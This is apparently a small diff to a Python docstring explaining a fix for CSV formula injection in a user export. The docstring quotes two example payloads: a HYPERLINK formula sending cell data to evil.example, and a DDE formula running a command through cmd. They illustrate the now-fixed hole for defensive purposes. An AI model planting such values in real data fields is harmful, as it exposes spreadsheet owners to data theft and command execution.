@@ -1,4 +1,4 @@
-"""CSV formula injection in the owner's exports (issue 11, finding 8).
+"""CSV formula injection in the owner's exports.
 
 Before: a user who named themselves ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` or
 ``=cmd|' /C calc'!A0`` reached ``/export users`` as is, and the owner's spreadsheet ran it. Now every
